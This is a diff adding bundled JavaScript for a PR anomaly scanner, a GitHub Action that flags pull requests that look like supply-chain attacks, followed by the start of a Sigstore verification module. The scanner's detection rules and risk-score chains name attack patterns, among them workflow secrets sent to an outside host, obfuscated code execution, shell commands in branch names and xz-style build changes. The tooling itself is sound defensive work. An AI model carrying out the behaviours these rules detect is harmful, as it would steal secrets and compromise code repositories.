+                    errors.push(r.error);
+                findings.push(...r.findings);
+            }
+            else {
+                findings.push(...autorunFindings(f.path, headText));
+            }
+        }
+        // 3. Binaries: magic, entropy and size, streamed.
+        const binaries = files.filter((f) => f.binary && f.status !== 'deleted' && !isNullSha(f.newSha) && f.newMode !== '160000');
+        const facts = new Map();
+        const oldSizes = await git.blobSizes(binaries.map((f) => f.oldSha));
+        await collectFacts(git, binaries, facts, errors);
+        // A "binary" without a NUL byte is text that `.gitattributes` (`-diff`, `binary`) hides from the diff,
+        // which a PR controls: its added lines get the text rules too.
+        const hidden = binaries.filter((f) => facts.get(f.newSha) && !facts.get(f.newSha).hasNul && facts.get(f.newSha).size <= MAX_WHOLE_FILE * 4);
+        if (hidden.length) {
+            await git.streamAddedLines(from, head, onText, hidden.map((f) => f.path));
+            notes.push(`${hidden.length} text file(s) marked binary by .gitattributes were scanned as text: ${hidden
+                .slice(0, 5)
+                .map((f) => f.path)
+                .join(', ')}.`);
+        }
+        for (const f of binaries) {
+            const fact = facts.get(f.newSha);
+            if (!fact || hidden.includes(f))
+                continue;
+            try {
+                findings.push(...(await scanBinary({ file: f, facts: fact, oldSize: oldSizes.get(f.oldSha) })));
+            }
+            catch (e) {
+                errors.push(`${f.path}: ${(0,src/* oneLine */.TN)(e)}`);
+            }
+        }
+        const textChanged = hidden.length > 0 || files.some((f) => !f.binary && (f.addedCount || f.deletedCount));
+        const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
+        if (changedBinaries.length && !textChanged) {
+            const first = changedBinaries[0];
+            findings.push((0,src/* createFinding */.uP)(rules_RULES.BIN_ONLY, {
+                message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries
+                    .slice(0, 5)
+                    .map((f) => f.path)
+                    .join(', ')}.`,
+                location: { file: first.path },
+                evidence: changedBinaries
+                    .slice(0, 5)
+                    .map((f) => f.path)
+                    .join(', '),
+                severity: changedBinaries.some((f) => f.status === 'modified') ? 'high' : 'medium',
+                key: changedBinaries.map((f) => f.newSha).join(','),
+                properties: { contentSha256: facts.get(first.newSha)?.sha256 }
+            }));
+        }
+        stats['binary files'] = binaries.length;
+        // 4. Governance files.
+        findings.push(...governanceFindings(files.map((f) => f.path), opts.configPath));
+        // 5. Inline suppressions, for the runner to apply; each one the PR adds is itself reported.
+        for (const [file, ignores] of inline) {
+            added.push(...inlineSuppressions(file, ignores));
+            for (const bad of ignores.filter((i) => !i.reason))
+                notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
+            for (const ig of ignores.filter((i) => i.reason)) {
+                findings.push((0,src/* createFinding */.uP)(rules_RULES.META_SUPPRESSION, {
+                    message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`,
+                    location: { file, line: ig.line },
+                    evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`
+                }));
+            }
+        }
+        try {
+            findings.push(...(await secrets.scan()));
+            if (secrets.truncated)
+                notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
+        }
+        catch (e) {
+            notChecked.push({ check: rules_RULES.SECRET.id, reason: `secretlint failed: ${(0,src/* oneLine */.TN)(e)}` });
+        }
+    }
+    catch (e) {
+        if (!(e instanceof src/* UserError */.yo))
+            throw e;
+        errors.push((0,src/* oneLine */.TN)(e));
+        for (const check of DIFF_CHECKS)
+            notChecked.push({ check, reason: `the diff could not be read: ${(0,src/* oneLine */.TN)(e)}` });
+    }
+    // 6. Metadata and the API.
+    findings.push(...refFindings(opts.meta));
+    const sensitive = files.filter((f) => isSensitive(f.path) || f.binary).map((f) => f.path);
+    const lines = files.reduce((n, f) => n + f.addedCount + f.deletedCount, 0);
+    let client;
+    let noTokenReason = opts.noTokenReason;
+    try {
+        client = opts.meta.author ? await opts.client?.() : undefined;
+    }
+    catch (e) {
+        noTokenReason = (0,src/* oneLine */.TN)(e);
+    }
+    const api = await apiChecks(client, opts.meta, {
+        trustedOrgs: opts.trustedOrgs,
+        commits,
+        diff: { files: files.length, lines, sensitive },
+        budget: 6,
+        noTokenReason
+    });
+    findings.push(...api.findings);
+    notChecked.push(...api.notChecked);
+    notes.push(...api.notes);
+    return {
+        rules: rules_REGISTRY.list(),
+        findings,
+        notChecked,
+        errors,
+        notes,
+        stats,
+        suppressions: [...added, ...workflowSuppressions],
+        target: `${opts.base}...${opts.head}`
+    };
+}
+async function collectFacts(git, binaries, facts, errors) {
+    await git
+        .streamBlobs([...new Set(binaries.map((f) => f.newSha))], (sha) => {
+        const a = new BlobAnalyser();
+        return { chunk: (b) => a.chunk(b), end: () => void facts.set(sha, a.facts()) };
+    })
+        .catch((e) => errors.push((0,src/* oneLine */.TN)(e)));
+}
+
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
+// Reads a PR's changes from a local checkout with git, streaming, without ever
+// running anything the PR controls: git is spawned with an argv array (no
+// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
+
+
+
+/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
+const SAFE = [
+    '-c',
+    'core.fsmonitor=',
+    '-c',
+    'core.hooksPath=/dev/null',
+    '-c',
+    'diff.external=',
+    '-c',
+    'core.quotePath=true',
+    '-c',
+    'core.bigFileThreshold=64m',
+    '-c',
+    'diff.renameLimit=2000',
+    '--literal-pathspecs'
+];
+const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
+const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
+/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
+const MAX_LINE = 256 * 1024;
+/** Added text kept per file for the content rules; the rest is counted, not kept. */
+const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
+/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
+function git(repo, args, onData, stdin) {
+    return new Promise((resolve, reject) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], {
+            env: { ...process.env, ...GIT_ENV },
+            stdio: ['pipe', 'pipe', 'pipe']
+        });
+        let stderr = '';
+        child.stdout.on('data', (b) => onData?.(b));
+        child.stderr.on('data', (b) => {
+            if (stderr.length < 4096)
+                stderr += b.toString();
+        });
+        child.on('error', (e) => reject(new src/* UserError */.yo(`cannot run git: ${e.message}`)));
+        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(stdin ?? '');
+    });
+}
+async function gitText(repo, args) {
+    const chunks = [];
+    const r = await git(repo, args, (b) => chunks.push(b));
+    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
+}
+/** The commit a ref names, or a UserError saying why it is not there. */
+async function resolveCommit(repo, ref, what) {
+    if (!ref || ref.startsWith('-'))
+        throw new src/* UserError */.yo(`${what}: '${ref}' is not a commit reference`);
+    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
+    if (r.code === 0)
+        return r.out.trim();
+    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
+    if (inside.code !== 0)
+        throw new src/* UserError */.yo(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new src/* UserError */.yo(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** The merge base, so the diff is what the PR adds (`base...head`). */
+async function mergeBase(repo, base, head) {
+    const r = await gitText(repo, ['merge-base', base, head]);
+    if (r.code === 0)
+        return r.out.trim();
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new src/* UserError */.yo(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** Per-file status from `git diff --raw --numstat -z`. */
+async function listChanges(repo, from, to) {
+    const chunks = [];
+    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git diff failed: ${res.stderr.split('\n')[0]}`);
+    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
+    const files = [];
+    let i = 0;
+    for (; i < tokens.length && tokens[i].startsWith(':');) {
+        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
+        const code = st[0];
+        const two = code === 'R' || code === 'C';
+        const oldPath = tokens[i + 1];
+        const path = two ? tokens[i + 2] : oldPath;
+        i += two ? 3 : 2;
+        const status = code === 'A'
+            ? 'added'
+            : code === 'D'
+                ? 'deleted'
+                : code === 'R'
+                    ? 'renamed'
+                    : code === 'C'
+                        ? 'copied'
+                        : code === 'T'
+                            ? 'typechange'
+                            : 'modified';
+        files.push({
+            status,
+            path,
+            oldPath: two ? oldPath : undefined,
+            oldMode,
+            newMode,
+            oldSha,
+            newSha,
+            binary: false,
+            addedCount: 0,
+            deletedCount: 0
+        });
+    }
+    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
+    for (const f of files) {
+        const t = tokens[i];
+        if (t === undefined)
+            break;
+        const [a, d, p] = t.split('\t');
+        i += p === '' ? 3 : 1;
+        f.binary = a === '-' && d === '-';
+        f.addedCount = Number(a) || 0;
+        f.deletedCount = Number(d) || 0;
+    }
+    return files;
+}
+/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
+class LineSplitter {
+    onLine;
+    parts = [];
+    kept = 0;
+    cut = false;
+    constructor(onLine) {
+        this.onLine = onLine;
+    }
+    push(b) {
+        let start = 0;
+        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
+            if (!this.parts.length && nl - start <= MAX_LINE) {
+                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
+            }
+            else {
+                this.take(b.subarray(start, nl));
+                this.flush();
+            }
+            start = nl + 1;
+        }
+        if (start < b.length)
+            this.take(b.subarray(start));
+    }
+    end() {
+        if (this.kept || this.parts.length)
+            this.flush();
+    }
+    take(b) {
+        const room = MAX_LINE - this.kept;
+        if (b.length > room)
+            this.cut = true;
+        const part = b.length > room ? b.subarray(0, room) : b;
+        if (part.length) {
+            this.parts.push(Buffer.from(part));
+            this.kept += part.length;
+        }
+    }
+    flush() {
+        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
+        this.onLine(line, this.cut);
+        this.parts = [];
+        this.kept = 0;
+        this.cut = false;
+    }
+}
+/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
+function unquotePath(s) {
+    if (!s.startsWith('"'))
+        return s;
+    const bytes = [];
+    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
+    for (let i = 1; i < s.length - 1; i++) {
+        const c = s[i];
+        if (c !== '\\') {
+            bytes.push(...Buffer.from(c, 'utf8'));
+            continue;
+        }
+        const n = s[++i];
+        if (/[0-7]/.test(n)) {
+            bytes.push(parseInt(s.slice(i, i + 3), 8));
+            i += 2;
+        }
+        else
+            bytes.push(esc[n] ?? n.charCodeAt(0));
+    }
+    return Buffer.from(bytes).toString('utf8');
+}
+/**
+ * Streams the added lines of every text file in `from..to` (`-U0` patch) and
+ * calls `onFile` as each file's section ends, so memory holds one file at a time.
+ */
+async function streamAddedLines(repo, from, to, onFile, 
+/** Diff only these paths, as text whatever the attributes say (`--text`). */
+asText) {
+    let current;
+    let nextLine = 0;
+    let kept = 0;
+    const finish = () => {
+        if (current) {
+            onFile(current); // analysed there; nothing here keeps the text
+        }
+        current = undefined;
+    };
+    const splitter = new LineSplitter((line, cut) => {
+        const c = line.charCodeAt(0);
+        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
+            if (kept + line.length <= MAX_ADDED_PER_FILE) {
+                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
+                kept += line.length;
+            }
+            else
+                current.addedTruncated = true;
+            nextLine++;
+        }
+        else if (line.startsWith('@@ ')) {
+            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
+            if (m)
+                nextLine = Number(m[1]);
+        }
+        else if (line.startsWith('diff --git ')) {
+            finish();
+        }
+        else if (line.startsWith('+++ ')) {
+            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
+            if (p !== '/dev/null') {
+                const path = unquotePath(p).replace(/^b\//, '');
+                current = { path, added: [], addedTruncated: false };
+                kept = 0;
+            }
+        }
+    });
+    const args = asText
+        ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText]
+        : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
+    const res = await git(repo, args, (b) => splitter.push(b));
+    splitter.end();
+    finish();
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git diff failed: ${res.stderr.split('\n')[0]}`);
+}
+/**
+ * Streams blobs through `git cat-file --batch`; `open` is called per blob with
+ * its size and returns where the bytes go. A 1 GB blob never sits in memory.
+ */
+async function streamBlobs(repo, shas, open) {
+    if (!shas.length)
+        return;
+    let header = [];
+    let sink;
+    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
+    const onData = (b) => {
+        let i = 0;
+        while (i < b.length) {
+            if (left === -2) {
+                i++; // the newline git prints after each blob
+                left = -1;
+                continue;
+            }
+            if (left === -1) {
+                const nl = b.indexOf(10, i);
+                if (nl < 0) {
+                    header.push(b.subarray(i));
+                    return;
+                }
+                header.push(b.subarray(i, nl));
+                const h = Buffer.concat(header).toString('utf8');
+                header = [];
+                i = nl + 1;
+                const [sha, type, size] = h.split(' ');
+                if (type === 'missing' || size === undefined)
+                    continue;
+                left = Number(size);
+                sink = open(sha, left);
+                if (left === 0) {
+                    sink?.end();
+                    left = -2;
+                }
+                continue;
+            }
+            const n = Math.min(left, b.length - i);
+            sink?.chunk(b.subarray(i, i + n));
+            i += n;
+            left -= n;
+            if (left === 0) {
+                sink?.end();
+                left = -2;
+            }
+        }
+    };
+    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
+}
+/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
+async function readTexts(repo, shas, maxBytes) {
+    const out = new Map();
+    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
+        if (size > maxBytes)
+            return undefined;
+        const parts = [];
+        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
+    });
+    return out;
+}
+async function listCommits(repo, from, to, max = 250) {
+    const r = await gitText(repo, [
+        'log',
+        '--no-show-signature',
+        `--max-count=${max}`,
+        '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e',
+        `${from}..${to}`,
+        '--'
+    ]);
+    if (r.code !== 0)
+        return [];
+    return r.out
+        .split('\x1e')
+        .map((s) => s.trim())
+        .filter(Boolean)
+        .map((s) => {
+        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
+        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
+    });
+}
+/** Sizes of blobs without reading them (`cat-file --batch-check`). */
+async function blobSizes(repo, shas) {
+    const out = new Map();
+    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
+    if (!want.length)
+        return out;
+    const chunks = [];
+    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
+    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
+        const [sha, type, size] = line.split(' ');
+        if (type === 'blob')
+            out.set(sha, Number(size));
+    }
+    return out;
+}
+/** A file's text at a commit, or undefined when it does not exist there. */
+async function readFileAt(repo, commit, path) {
+    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
+    return r.code === 0 ? r.out : undefined;
+}
+/** The GitIO of the checkout at `repo`: what main.ts hands the engine. */
+function gitCheckout(repo) {
+    return {
+        resolveCommit: (ref, what) => resolveCommit(repo, ref, what),
+        mergeBase: (base, head) => mergeBase(repo, base, head),
+        listChanges: (from, to) => listChanges(repo, from, to),
+        listCommits: (from, to, max) => listCommits(repo, from, to, max),
+        streamAddedLines: (from, to, onFile, asText) => streamAddedLines(repo, from, to, onFile, asText),
+        readTexts: (shas, maxBytes) => readTexts(repo, shas, maxBytes),
+        blobSizes: (shas) => blobSizes(repo, shas),
+        streamBlobs: (shas, open) => streamBlobs(repo, shas, open),
+        readFileAt: (commit, path) => readFileAt(repo, commit, path)
+    };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
+// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
+// signals are capped so a pile of them cannot look like an attack, and chains
+// of families that make up an attack (GuardDog v3's "capability + threat")
+// add on top: obfuscation + execution, a build change + network, a new
+// workflow + secrets + an outside host.
+
+
+const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
+const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
+/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
+const WEAK_CAP = 1;
+function riskScore(findings) {
+    const active = findings.filter(src/* isActive */.$m);
+    let strong = 0;
+    let weak = 0;
+    for (const f of active) {
+        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
+        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
+            weak += w;
+        else
+            strong += w;
+    }
+    const family = (f) => rules_REGISTRY.get(f.ruleId)?.group;
+    const has = (pred) => active.some(pred);
+    const chains = [];
+    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
+        (has((f) => family(f) === 'obfuscation') &&
+            has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
+        chains.push('obfuscated data reaches code execution');
+    }
+    if (has((f) => family(f) === 'build' && f.properties?.network === true) ||
+        (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
+        chains.push('build change with network access');
+    }
+    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') ||
+        (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
+        chains.push('workflow sends secrets out');
+    }
+    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
+        chains.push('opaque test data with a build-script change (xz)');
+    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
+        chains.push('command in branch name');
+    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
+    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
+    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
+    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
+    return { score, band, chains };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/config.schema.json
+const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object","additionalProperties":false,"properties":{"allow":{"description":"Known fixtures and lines, matched on the SHA-256 of a binary file\'s content or of a finding\'s trimmed source line (`contentSha256` in the JSON report). Each needs a reason; one with an expiry date stops applying after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["sha256","reason"],"properties":{"sha256":{"description":"The content hash: 64 lower-case hex digits.","type":"string","pattern":"^[0-9a-f]{64}$"},"reason":{"description":"Why this content is safe; shown in every report.","type":"string","minLength":1,"pattern":"\\\\S"},"rule":{"description":"Only findings of this rule id (default: any rule).","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"expires":{"description":"Last day (YYYY-MM-DD) the entry applies.","type":"string","pattern":"^\\\\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\\\\d|3[01])$"}}}}}}');
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
+// pr-anomaly-scan adapter: read the inputs and event, call the engine, and
+// keep one PR comment up to date.
+
+
+
+
+
+
+
+
+
+const COMMENT_MARKER = 'security-actions:pr-anomaly-scan';
+function scorePreamble(s) {
+    const chains = s.chains.length ? ` Chained signals: ${s.chains.join('; ')}.` : '';
+    return `**Risk score: ${s.score}/10 (${s.band}).**${chains}`;
+}
+/**
+ * The workspace holds the PR's version of the config file, so a PR could ignore its own findings. The
+ * scan applies the base commit's config instead; the adapter applies the config `run()` returns.
+ */
+async function baseConfig(ctx, git, base, path) {
+    const current = ctx.config;
+    let text;
+    try {
+        text = await git.readFileAt(await git.resolveCommit(base, 'base'), path);
+    }
+    catch {
+        return { config: current, notes: [] }; // the scan reports the missing base itself
+    }
+    if (current === src/* EMPTY_CONFIG */.$v) {
+        return {
+            config: current,
+            notes: text === undefined ? [] : [`${path} exists at the base but not in the workspace; it was not applied.`]
+        };
+    }
+    try {
+        const config = text === undefined ? { ...src/* EMPTY_CONFIG */.$v, file: current.file } : (0,src/* parseConfig */.o4)(text, path);
+        const changed = JSON.stringify(config) !== JSON.stringify(current);
+        return {
+            config,
+            notes: changed ? [`The PR changes ${path}; the base commit's version was applied to this scan.`] : []
+        };
+    }
+    catch (e) {
+        return {
+            config: { ...src/* EMPTY_CONFIG */.$v, file: current.file },
+            notes: [`${path} at the base is invalid (${(0,src/* oneLine */.TN)(e)}); no ignores were applied.`]
+        };
+    }
+}
+const main_definition = {
+    name: 'pr-anomaly-scan',
+    rules: rules_REGISTRY,
+    configSchema: pr_anomaly_scan_config_schema_namespaceObject,
+    async run(ctx) {
+        const { inputs } = ctx;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const base = inputs.string('base') || meta.baseSha || '';
+        const head = inputs.string('head') || meta.headSha || 'HEAD';
+        const git = gitCheckout((0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' })));
+        const trustedOrgs = inputs.list('trusted-orgs');
+        inputs.boolean('comment', false);
+        const token = inputs.string('token');
+        if (!base)
+            throw new src/* UserError */.yo("Input 'base' is required outside pull_request events (the base commit of the comparison).");
+        const { config, notes } = await baseConfig(ctx, git, base, inputs.string('config') || src/* DEFAULT_CONFIG_PATH */.Bi);
+        const result = await scanPr({
+            git,
+            base,
+            head,
+            meta,
+            client: token ? () => ctx.github(token) : undefined,
+            noTokenReason: token ? undefined : 'no token given',
+            trustedOrgs,
+            configPath: config.file ?? src/* DEFAULT_CONFIG_PATH */.Bi
+        });
+        return {
+            ...result,
+            notes: [...notes, ...(result.notes ?? [])],
+            suppressions: [...(result.suppressions ?? []), ...allowSuppressions(config)],
+            config
+        };
+    },
+    // The score weighs what stands after the config and every suppression, so an allowed fixture adds nothing.
+    summarise(report) {
+        const score = riskScore(report.findings);
+        return {
+            outputs: { 'risk-score': String(score.score) },
+            stats: { 'risk score': `${score.score}/10` },
+            preamble: scorePreamble(score)
+        };
+    },
+    async publish(ctx, report, _markdown) {
+        if (!ctx.inputs.boolean('comment', false))
+            return;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const token = ctx.inputs.string('token');
+        if (!meta.number || !meta.repo)
+            return ['PR comment not posted: no pull_request event payload.'];
+        if (!token)
+            return ['PR comment not posted: no token given.'];
+        const client = await ctx.github(token);
+        // The scan's API calls come first; the comment gets what is left of the per-PR budget.
+        const budget = MAX_REQUESTS - client.stats.requests;
+        if (budget < 2)
+            return [`PR comment not posted: the ${MAX_REQUESTS}-request API budget is used up.`];
+        const [owner, repo] = meta.repo.split('/');
+        const body = (0,src/* renderMarkdown */.Gc)(report, {
+            marker: COMMENT_MARKER,
+            maxChars: src/* COMMENT_LIMIT */.W$,
+            preamble: scorePreamble(riskScore(report.findings)),
+            fullReport: 'the job summary and the JSON report artifact'
+        });
+        try {
+            const target = { kind: 'comment', owner, repo, issue: meta.number, maxPages: Math.min(3, budget - 1) };
+            const r = await (0,src/* upsertMarked */.GD)(client.rest, target, COMMENT_MARKER, body);
+            return [r.action === 'updated' ? `Updated the PR comment ${r.id}.` : `Posted PR comment ${r.id}.`];
+        }
+        catch (e) {
+            return [`PR comment not posted: ${(0,src/* describeApiError */.gg)(e, 'pull-requests: write')}`];
+        }
+    }
+};
+async function main_run(runtime) {
+    await runAction(main_definition, runtime ?? (await actionsRuntime()));
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/pr-scan.ts
+
+
+const prScan = {
+    summary: 'flag changes between two commits that look like an attack (reads git only, runs nothing)',
+    usage: '--base REF [--head REF] [--repo PATH] [options]',
+    checkout: true,
+    checks: [
+        {
+            definition: main_definition,
+            // No token locally: the API checks (author history, commit verification) are reported as not checked.
+            fixed: { token: '', comment: 'false' },
+            inputs: { base: 'base', head: 'head' }
+        }
+    ],
+    options: {
+        base: { type: 'string', value: 'REF', required: true, help: 'base commit or ref of the comparison' },
+        head: { type: 'string', value: 'REF', help: 'head commit or ref (default: HEAD)' },
+        ...REPO_OPTION,
+        ...REPORT_OPTIONS
+    },
+    notes: ['The risk score (0-10) is printed with the figures, above the verdict.']
+};
+
+// EXTERNAL MODULE: ./node_modules/@sigstore/bundle/dist/index.js
+var bundle_dist = __nccwpck_require__(1040);
+// EXTERNAL MODULE: ./node_modules/@sigstore/core/dist/index.js
+var core_dist = __nccwpck_require__(3917);
+// EXTERNAL MODULE: ./node_modules/@sigstore/protobuf-specs/dist/index.js
+var protobuf_specs_dist = __nccwpck_require__(9654);
+// EXTERNAL MODULE: ./node_modules/@sigstore/verify/dist/index.js
+var verify_dist = __nccwpck_require__(4187);
+// EXTERNAL MODULE: ./node_modules/@sigstore/tuf/seeds.json
+var seeds = __nccwpck_require__(8032);
+;// CONCATENATED MODULE: ./packages/core/src/sigstore/verify.ts
+// Sigstore bundle verification shared by sign-release (self-verification), the
+// CLI (`verify`, `verify-bundle`) and, for PEP 740 attestations, verify-deps.
+// It wraps @sigstore/verify and adds what the library leaves to its callers:
+// an exact identity match (the library's SAN policy is an unanchored regex, so
+// `…@refs/tags/v1.0.1` would accept `…@refs/tags/v1.0.10`), in-toto subjects
+// checked against the artifact (the library ignores the artifact for DSSE), and
+// a trusted root whose validity bounds are present (the library reads a
+// missing start as "since the beginning of time").
+
+
+
+
+
+
+
+const GITHUB_OIDC_ISSUER = 'https://token.actions.githubusercontent.com';
+const IN_TOTO_PAYLOAD_TYPE = 'application/vnd.in-toto+json';
+const PUBLIC_GOOD_MIRROR = 'https://tuf-repo-cdn.sigstore.dev';
+/** Why a bundle was rejected: one line, fit for a user. */
+class BundleVerificationError extends Error {
+    name = 'BundleVerificationError';
+}
+/**
+ * Parses a trusted_root.json. Rejects what @sigstore/verify would silently
+ * widen: a log, CA or TSA whose validity has no start (conformance case
+ * trust-root-tlog-missing-validity-start_fail).
+ */
+function verify_parseTrustedRoot(text, file = 'trusted root') {
+    let json;
+    try {
+        json = JSON.parse(text);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file}: not valid JSON (${e.message})`);
+    }
+    if (!json || typeof json !== 'object' || Array.isArray(json))
+        throw new BundleVerificationError(`${file}: not a JSON object`);
+    const list = (k) => (Array.isArray(json[k]) ? json[k] : []);
+    for (const k of ['tlogs', 'ctlogs']) {
+        list(k).forEach((log, i) => {
+            const key = log.publicKey;
+            if (!key?.validFor?.start)
+                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(log.baseUrl ?? '')}) has no publicKey.validFor.start`);
+        });
+    }
+    for (const k of ['certificateAuthorities', 'timestampAuthorities']) {
+        list(k).forEach((ca, i) => {
+            if (!ca.validFor?.start)
+                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(ca.uri ?? '')}) has no validFor.start`);
+        });
+    }
+    try {
+        return protobuf_specs_dist.TrustedRoot.fromJSON(json);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file}: not a Sigstore trusted root (${e.message})`);
+    }
+}
+async function readTrustedRoot(file) {
+    let text;
+    try {
+        text = await (0,promises_.readFile)(file, 'utf8');
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file}: cannot read the trusted root (${e.code ?? e.message})`);
+    }
+    return verify_parseTrustedRoot(text, file);
+}
+/**
+ * The public-good trusted root shipped inside @sigstore/tuf: a snapshot from
+ * the package's release, for offline use only (newer keys appear only in newer
+ * package versions). Online callers should use `fetchTrustedRoot`.
+ */
+function embeddedTrustedRoot() {
+    const seed = seeds[PUBLIC_GOOD_MIRROR];
+    return verify_parseTrustedRoot(Buffer.from(seed.targets['trusted_root.json'], 'base64').toString('utf8'), '@sigstore/tuf embedded trusted root');
+}
+/** The public-good trusted root, fetched and verified over TUF. */
+async function fetchTrustedRoot(cachePath) {
